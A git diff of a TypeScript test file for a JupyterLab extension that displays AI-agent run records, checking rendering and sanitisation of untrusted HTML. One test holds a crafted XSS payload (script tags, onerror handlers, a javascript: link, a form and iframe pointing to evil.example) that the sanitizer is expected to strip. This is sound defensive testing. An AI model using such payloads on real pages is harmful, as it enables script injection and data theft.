@@ -6,22 +6,23 @@ import { describe, expect, it } from 'vitest';
 import extension, { MIME_TYPE, RECORD_CLASS, RunRecordRenderer, rendererFactory } from '../src/index';
 import { approvalQuestion, approveLabel, denyLabel, planSummary } from '../src/view';
 import type { IRunView } from '../src/view';
+import { recordHtml } from './kernel_record';
 
 // Run views made by the Python pipeline: the committed ones, or fresh ones when the pytest suite runs this
 // (tests/test_labextension.py sets NBAGENT_VIEW_FIXTURES).
 const FIXTURES = process.env.NBAGENT_VIEW_FIXTURES || join(__dirname, 'fixtures');
 const load = (name: string): IRunView => JSON.parse(readFileSync(join(FIXTURES, `${name}.json`), 'utf8'));
-// a view changed by hand: its `words` (what the record says, worded in Python from the rest) would be stale
-const edited = (view: IRunView, changes: Partial<IRunView>): IRunView => {
-  const { words: _stale, ...rest } = view;
-  return { ...rest, ...changes };
-};
-
-function model(data: unknown): any {
-  return { trusted: false, data: { [MIME_TYPE]: data }, metadata: {}, setData: () => undefined };
+function model(data: unknown, html?: unknown): any {
+  const bundle: Record<string, unknown> = { [MIME_TYPE]: data };
+  bundle['text/html'] = html !== undefined ? html : data && typeof data === 'object' ? recordHtml(data) : undefined;
+  return { trusted: false, data: bundle, metadata: {}, setData: () => undefined };
 }
 
 async function render(view: unknown): Promise<HTMLElement> {
+  return renderHtml(view, undefined);
+}
+
+async function renderHtml(view: unknown, html: unknown, text?: string): Promise<HTMLElement> {
   const renderer = rendererFactory.createRenderer({
     mimeType: MIME_TYPE,
     sanitizer: { sanitize: (s: string) => s },
@@ -29,7 +30,11 @@ async function render(view: unknown): Promise<HTMLElement> {
     linkHandler: null,
     latexTypesetter: null
   } as any) as RunRecordRenderer;
-  await renderer.renderModel(model(view));
+  const m = model(view, html);
+  if (text !== undefined) {
+    m.data['text/plain'] = text;
+  }
+  await renderer.renderModel(m);
   document.body.appendChild(renderer.node);
   return renderer.node;
 }
@@ -46,108 +51,104 @@ describe('the extension', () => {
 });
 
 describe('a finished run', () => {
-  it('shows the header, the prompt, the timeline and the totals', async () => {
+  it('is the HTML the kernel drew, the very text/html nbconvert shows', async () => {
     const view = load('full');
     const node = await render(view);
     expect(node.classList.contains(RECORD_CLASS)).toBe(true);
-    const root = node.querySelector('.nbagent-live.nbv-static')!;
-    expect(root).not.toBeNull();
-    expect(root.classList.contains('nbv-status-completed_with_errors')).toBe(true);
-    expect(root.querySelector('.nbv-status')!.textContent).toContain('completed with errors');
-    expect(root.querySelector('.nbv-meta')!.textContent).toContain('nbagent/scripted');
-    expect(root.querySelector('.nbv-prompt')!.textContent).toBe(view.prompt);
-    // the timeline: every step, tools with arguments, risk, status, duration and result preview
-    const steps = root.querySelectorAll('.nbv-steps > li');
-    expect(steps.length).toBe(view.steps!.length);
-    const tool = root.querySelector('.nbv-step.nbv-k-tool.nbv-st-ok')!;
-    expect(tool.querySelector('.nbv-tool')!.textContent).toBe('read_file');
-    expect(tool.querySelector('.nbv-args')!.textContent).toBe('(path="sales.csv")');
-    expect(tool.querySelector('.nbv-risk')!.textContent).toBe('READ_ONLY');
-    // what it did, as a sentence (nbagent/ui/step_words.py), then the call and its duration
-    expect(tool.querySelector('.nbv-said-text')!.textContent).toBe('read sales.csv, lines 1-5 of 5');
-    expect(tool.querySelector('.nbv-main')!.textContent).toMatch(/ · [\d.]+ (ms|s)$/);
-    expect(tool.querySelector('.nbv-result')!.textContent).toContain('North,10');
-    expect(texts(root, '.nbv-k-model .nbv-facts').every(t => /\d+ tokens · \$/.test(t))).toBe(true);
-    expect(root.querySelector('.nbv-k-denied .nbv-why')!.textContent).toContain('excluded');
-    expect(root.querySelector('.nbv-k-question')!.textContent).toContain('answer: EUR');
-    // totals, the run id and the log
-    const foot = root.querySelector('.nbv-foot')!.textContent!;
-    expect(foot).toContain(`${view.totals!.tool_calls ?? view.totals!.steps} tool calls`); // not "steps": see the timeline's entries
-    expect(foot).toContain(`${(view.totals!.tokens as number).toLocaleString('en-US')} tokens`);
-    expect(root.querySelector('.nbv-run-id')!.textContent).toBe(view.run_id);
-    expect(root.querySelector('.nbv-log')!.textContent).toBe(view.log_path);
-    // static: the one thing to click is Reproduce (reproduce.test.ts); Undo… comes only for a run that changed
-    // something (undo.test.ts); no waiting hint
-    const buttons = [...root.querySelectorAll('button, input')].map(b => b.textContent);
-    expect(buttons).toEqual(['Reproduce']);
-    expect(root.querySelector('.nbv-pending')).toBeNull();
-  });
-
-  it('shows each plan with its steps, diffs and every decision (who, when, why)', async () => {
-    const view = load('full');
-    const root = (await render(view)).querySelector('.nbv-static')!;
-    const plans = root.querySelectorAll('.nbv-plan');
-    expect(plans.length).toBe(view.plans!.length);
-    const heads = texts(root, '.nbv-plan-head');
-    expect(heads.some(t => t.includes('sent back to the model'))).toBe(true);
-    expect(heads.some(t => t.includes('approved'))).toBe(true);
-    expect(heads.some(t => t.includes('denied'))).toBe(true);
-    const decisions = texts(root, '.nbv-decisions li');
-    // each decision once, who and when ("approved by you · 14:02"), never a raw plan id
-    expect(decisions.some(t => /^refined by you · .+ — feedback: list all three regions$/.test(t))).toBe(true);
+    const root = node.querySelector('.nbagent-run')!;
+    expect(root.getAttribute('data-run-id')).toBe(view.run_id);
+    expect(root.getAttribute('role')).toBe('region');
+    expect(root.getAttribute('aria-label')).toBe(`nbagent run ${view.run_id}`);
+    // what the page shows is the kernel's record, less its <style> (the extension serves record.css) and plus
+    // what the page attaches (Reproduce)
+    const kernel = document.createElement('div');
+    kernel.innerHTML = recordHtml(view);
+    kernel.querySelectorAll('style').forEach(e => e.remove());
+    const shown = root.cloneNode(true) as HTMLElement;
+    shown.querySelectorAll('.nbr-reproduce').forEach(e => e.remove());
+    [shown, kernel].forEach(e => e.querySelectorAll('time').forEach(t => t.replaceChildren())); // (the reader's clock)
+    expect(shown.textContent).toBe(kernel.querySelector('.nbagent-run')!.textContent);
+    expect(root.querySelector('style')).toBeNull();
+    expect(root.classList.contains('nbr-status-completed_with_errors')).toBe(true);
+    expect(root.querySelector('.nbr-title')!.textContent).toContain('completed with errors');
+    expect(root.querySelector('.nbr-meta')!.textContent).toContain('nbagent/scripted');
+    expect(root.querySelector('.nbr-prompt')!.textContent).toBe(view.prompt);
+    expect(root.querySelectorAll('.nbr-steps > li').length).toBe(view.steps!.length);
+    const tool = root.querySelector('.nbr-step.nbr-k-tool.nbr-st-ok')!;
+    expect(tool.querySelector('.nbr-said')!.textContent).toBe('read sales.csv, lines 1-5 of 5');
+    expect(tool.querySelector('.nbr-tool')!.textContent).toBe('read_file');
+    expect(tool.querySelector('.nbr-result')!.textContent).toContain('North,10');
+    const foot = root.querySelector('.nbr-foot')!.textContent!;
+    expect(foot).toContain(`${view.totals!.tool_calls ?? view.totals!.steps} tool calls`);
+    expect(foot).toContain(view.log_path);
+    // each decision once, who and when ("approved by you · 14:02", on the reader's clock), never a raw plan id;
+    // no "READ_ONLY runs without asking" under every read
+    const decisions = texts(root, '.nbr-decisions li');
+    const at = (ts: unknown) => new Date(String(ts)).toLocaleTimeString([], { hour: '2-digit', minute: '2-digit' });
+    const refined = (view.decisions as any[]).find(d => d.kind === 'refined');
+    expect(decisions).toContain(`refined by you · ${at(refined.ts)} — feedback: list all three regions`);
     expect(decisions.some(t => /^approved by you · /.test(t))).toBe(true);
     expect(decisions.some(t => /^denied by you · .+ — reason: keep the raw data$/.test(t))).toBe(true);
-    expect(root.textContent).not.toMatch(/approved by user|runs without asking/);
-    // diffs of the file writes, open (short), lines marked
-    const diff = root.querySelector('details .nbv-diff')!;
-    expect((diff.closest('details') as HTMLDetailsElement).open).toBe(true);
-    expect(texts(root, '.nbv-add')).toContain('+# Sales report');
-    expect(root.querySelector('.nbv-fhead')).not.toBeNull();
-    expect(texts(root, '.nbv-plan th')).toEqual(expect.arrayContaining(['tool', 'target', 'risk', 'arguments']));
+    expect(root.querySelector('.nbr-decisions time')!.getAttribute('title')).toBe(new Date(refined.ts).toLocaleString());
+    expect(root.textContent).not.toMatch(/approved by user|runs without asking|\(plan 01/);
+    // the one thing to click is Reproduce (reproduce.test.ts); Undo… only where a kernel says (undo.test.ts)
+    expect([...root.querySelectorAll('button, input')].map(b => b.textContent)).toEqual(['Reproduce']);
   });
 
-  it('renders the answer as Markdown and keeps untrusted text as text', async () => {
+  it('keeps untrusted text as text: markup in the view or in a crafted text/html never runs or styles the page', async () => {
     const view = load('full');
-    const root = (await render(view)).querySelector('.nbv-static')!;
-    const md = root.querySelector('.nbv-answer .nbv-md')!;
-    expect(md.querySelector('h4')!.textContent).toBe('Top regions');
-    expect(texts(md, 'strong')).toEqual(['North']);
-    expect(texts(md, 'li')).toEqual(['North', 'South', 'East']);
-    expect([...md.querySelectorAll('a')].map(a => a.getAttribute('href'))).toEqual(['https://example.com/a?b=1']);
-    // the <script> and <img onerror> in the prompt, the model's text, a tool result and the answer stay text
-    expect(document.querySelectorAll('script, img, iframe').length).toBe(0);
+    const root = (await render(view)).querySelector('.nbagent-run')!;
+    expect(document.querySelectorAll('script, img, iframe, style').length).toBe(0);
     expect(root.textContent).toContain('<script>alert("x")</script>');
     expect(root.querySelectorAll('[onerror]').length).toBe(0);
+    const md = root.querySelector('.nbr-answer')!;
+    expect([...md.querySelectorAll('a')].map(a => a.getAttribute('href'))).toEqual(['https://example.com/a?b=1']);
+    // a notebook anyone could write: its text/html is not the kernel's
+    const evil = '<div class="nbagent-run jp-Dialog" data-run-id="r" onclick="alert(1)" style="position:fixed">'
+      + '<style>body{display:none}</style><script>alert(1)</script><img src=x onerror=alert(1)>'
+      + '<a href="javascript:alert(1)">x</a><a href="/files/secret" class="nbr-x lm-mod-hidden">y</a>'
+      + '<form action="https://evil.example"><input name="q"><button>Send</button></form>'
+      + '<iframe src="https://evil.example"></iframe><svg><script>alert(1)</script></svg>'
+      + '<p data-nbagent-focus="r" id="jp-main-dock-panel" title="ok">kept</p>'
+      + '<table><tr><td style="text-align:right">1</td><td style="background:url(https://evil.example)">2</td></tr>'
+      + '</table></div>';
+    const node = await renderHtml({ run_id: 'r', status: 'completed' }, evil);
+    const r = node.querySelector('.nbagent-run')!;
+    expect(node.querySelectorAll('script, style, img, form, input, iframe, svg, [onclick], [onerror], [id]').length)
+      .toBe(0);
+    expect(r.getAttribute('class')).toBe('nbagent-run'); // the page's own classes are not the record's to use
+    expect(r.hasAttribute('style')).toBe(false);
+    expect(r.querySelector('.nbr-x')!.getAttribute('class')).toBe('nbr-x');
+    expect([...r.querySelectorAll('a')].map(a => a.getAttribute('href'))).toEqual([null, null]);
+    expect(r.querySelector('p')!.hasAttribute('data-nbagent-focus')).toBe(false);
+    expect(r.querySelector('p')!.getAttribute('title')).toBe('ok');
+    expect([...r.querySelectorAll('td')].map(td => td.getAttribute('style'))).toEqual(['text-align:right', null]);
+    expect(r.querySelectorAll('button').length).toBe(0);
+  });
+
+  it('shows a record saved without its HTML as its text, and one whose HTML holds no record as an error', async () => {
+    let node = await renderHtml(load('full'), null, 'nbagent run X: completed\n  totals: 1 tool call');
+    expect(node.querySelector('pre.jp-nbagent-RunRecord-text')!.textContent).toBe(
+      'nbagent run X: completed\n  totals: 1 tool call');
+    node = await renderHtml(load('full'), '<p>hello</p>');
+    expect(node.querySelector('.jp-nbagent-RunRecord-error')!.textContent).toContain('holds no nbagent record');
   });
 });
 
 describe('a run waiting for approval', () => {
-  it('shows the plan card with its diff and the %agent lines that answer it, with no buttons', async () => {
+  it('shows the plan with its diff and the %agent lines that answer it, with no buttons', async () => {
     const view = load('waiting');
-    const root = (await render(view)).querySelector('.nbv-static')!;
-    expect(root.classList.contains('nbv-status-waiting')).toBe(true);
-    const card = root.querySelector('.nbv-plan.nbv-plan-waiting')!;
-    expect(card.querySelector('.nbv-plan-head')!.textContent).toContain('waiting for approval');
-    expect(texts(card, '.nbv-add')).toContain('+new line');
-    expect(texts(card, '.nbv-del')).toContain('-old line');
-    const hint = root.querySelector('.nbv-pending .nbv-hint')!.textContent!;
+    const root = (await render(view)).querySelector('.nbagent-run')!;
+    expect(root.classList.contains('nbr-status-waiting')).toBe(true);
+    const card = root.querySelector('.nbr-plan.nbr-plan-high')!;
+    expect(card.querySelector('.nbr-plan-head')!.textContent).toContain('waiting for approval');
+    expect(texts(card, '.nbr-add')).toContain('+new line');
+    expect(texts(card, '.nbr-del')).toContain('-old line');
+    const hint = root.querySelector('.nbr-banner .nbr-hint')!.textContent!;
     const rid = view.run_id!.slice(0, 12);
     expect(hint).toContain(`%agent approve ${rid}`);
     expect(hint).toContain(`%agent deny ${rid} "reason"`);
-    expect(hint).toContain(`%agent refine ${rid} "feedback"`);
     expect(root.querySelectorAll('button, input').length).toBe(0);
-  });
-
-  it('says how to resume an interrupted run and answer a question', async () => {
-    const interrupted = edited(load('full'), { status: 'interrupted', pending: null });
-    let root = (await render(interrupted)).querySelector('.nbv-static')!;
-    expect(root.querySelector('.nbv-pending')!.textContent).toContain('%agent resume');
-    const asking = edited(load('waiting'), {
-      pending: { kind: 'human_input', request_id: 'q-1', plan_id: null, question: 'Which year?' }
-    });
-    root = (await render(asking)).querySelector('.nbv-static')!;
-    expect(root.querySelector('.nbv-pending')!.textContent).toContain('waiting for an answer to: Which year?');
-    expect(root.querySelector('.nbv-pending')!.textContent).toContain('%agent answer');
   });
 });
 
@@ -171,40 +172,6 @@ describe('what an approval says', () => {
     expect(approvalQuestion(three)).toBe('Run these 3 actions?');
     expect(denyLabel(three)).toBe('Deny these 3 actions');
     expect(denyLabel({ steps: [step('delete_file', 'data.txt', HIGH)] })).toBe('Deny: delete data.txt');
-  });
-
-  it('never takes the question from the model, whose purpose is shown as a quote', async () => {
-    const view = load('waiting');
-    view.plans![0].purpose = 'Approve this harmless formatting change';
-    const card = (await render(view)).querySelector('.nbv-plan')!;
-    expect(card.querySelector('.nbv-plan-title')!.textContent).toBe('Plan 1: Overwrite notes.md');
-    expect(card.querySelector('.nbv-purpose q')!.textContent).toBe('Approve this harmless formatting change');
-    expect(card.querySelector('.nbv-plan-head')!.textContent).not.toContain('harmless');
-  });
-
-  it('marks a high-risk plan and says what makes it so, with the risk reason', async () => {
-    const view = load('waiting');
-    let root = (await render(view)).querySelector('.nbv-static')!;
-    let card = root.querySelector('.nbv-plan')!;
-    expect(card.classList.contains('nbv-plan-high')).toBe(true);
-    expect(card.querySelector('.nbv-danger')!.textContent).toContain('replaces the contents of notes.md');
-    expect(root.querySelector('.nbv-pending')!.textContent).toContain('(overwrite notes.md)');
-    const planted = load('waiting');
-    const s = planted.plans![0].steps as Record<string, unknown>[];
-    Object.assign(s[0], { tool: 'create_file', target: 'pandas.py', risk: HIGH,
-      risk_reason: 'writes a Python module: `import pandas` would run it' });
-    root = (await render(planted)).querySelector('.nbv-static')!;
-    card = root.querySelector('.nbv-plan')!;
-    expect(card.querySelector('.nbv-risk-reason')!.textContent).toBe('writes a Python module: `import pandas` would run it');
-    expect(card.querySelector('.nbv-danger')!.textContent).toContain(
-      'creates pandas.py: writes a Python module: `import pandas` would run it');
-    // a plan with no high-risk step looks ordinary
-    const low = load('waiting');
-    Object.assign((low.plans![0].steps as Record<string, unknown>[])[0], { tool: 'create_file', risk: 'WRITE_LOW_RISK' });
-    low.plans![0].max_risk = 'WRITE_LOW_RISK';
-    card = (await render(low)).querySelector('.nbv-plan')!;
-    expect(card.classList.contains('nbv-plan-high')).toBe(false);
-    expect(card.querySelector('.nbv-danger')).toBeNull();
   });
 });
 
@@ -281,49 +248,20 @@ describe('a sub-agent waiting in its parent\'s view', () => {
   });
 });
 
-describe('long and superseded runs', () => {
-  it('collapses the middle of a long timeline and long results', async () => {
-    const view = load('long');
-    const last = view.steps!.filter(s => s.kind === 'tool').pop()!;
-    last.result_preview = Array.from({ length: 40 }, (_, i) => `row ${i}`).join('\n'); // a long result (run_python)
-    const root = (await render(view)).querySelector('.nbv-static')!;
-    const n = view.steps!.length;
-    expect(n).toBeGreaterThan(20);
-    const lists = root.querySelectorAll('.nbv-timeline > ol.nbv-steps');
-    expect(lists.length).toBe(2);
-    const middle = root.querySelector('.nbv-timeline > details') as HTMLDetailsElement;
-    expect(middle.open).toBe(false);
-    expect(middle.querySelector('summary')!.textContent).toBe(`… ${n - 16} more steps`);
-    expect(middle.querySelectorAll('li').length).toBe(n - 16);
-    expect(middle.querySelector('ol')!.getAttribute('start')).toBe('9');
-    expect(root.querySelectorAll('li.nbv-step').length).toBe(n); // every step is there, some collapsed
-    const collapsed = [...root.querySelectorAll('details > summary')].map(s => s.textContent ?? '');
-    // the step says what it did in a sentence; its raw result is behind a disclosure
-    expect(collapsed).toContain('result');
-    expect(texts(root, '.nbv-result')).toContain(last.result_preview);
-  });
-
-  it('shows the superseded banner', async () => {
-    const view = { ...load('full'), status: 'superseded', superseded_by: '01NEWERRUN' };
-    const root = (await render(view)).querySelector('.nbv-static')!;
-    expect(root.querySelector('.nbv-superseded')!.textContent).toBe(
-      '↷ Superseded by run 01NEWERRUN: an earlier cell was re-run.'
-    );
-    expect(root.querySelector('.nbv-pending')).toBeNull();
-  });
-
-  it('keeps details open across re-renders and survives bad data', async () => {
+describe('a long record', () => {
+  it('keeps its disclosures open across re-renders, and a bad record says so', async () => {
     const renderer = new RunRecordRenderer({ mimeType: MIME_TYPE } as any);
     await renderer.renderModel(model(load('long')));
-    const middle = renderer.node.querySelector('.nbv-timeline > details') as HTMLDetailsElement;
-    middle.open = true;
-    middle.dispatchEvent(new Event('toggle'));
+    const middle = () => [...renderer.node.querySelectorAll('details')].find(
+      d => /more entries/.test(d.querySelector('summary')!.textContent!)) as HTMLDetailsElement;
+    expect(middle().open).toBe(false);
+    expect(middle().querySelector('ol')!.getAttribute('start')).toBe('9'); // the numbering goes on where it was cut
+    middle().open = true;
+    middle().dispatchEvent(new Event('toggle'));
     await renderer.renderModel(model(load('long')));
-    expect((renderer.node.querySelector('.nbv-timeline > details') as HTMLDetailsElement).open).toBe(true);
-    await renderer.renderModel(model('not a record'));
+    expect(middle().open).toBe(true);
+    await renderer.renderModel(model('not a record', '<div class="nbagent-run"></div>'));
     expect(renderer.node.querySelector('.jp-nbagent-RunRecord-error')!.textContent).toContain('could not be shown');
-    const empty = await render({});
-    expect(empty.querySelector('.nbv-static .nbv-foot')!.textContent).toContain('0 tool calls');
   });
 });
 
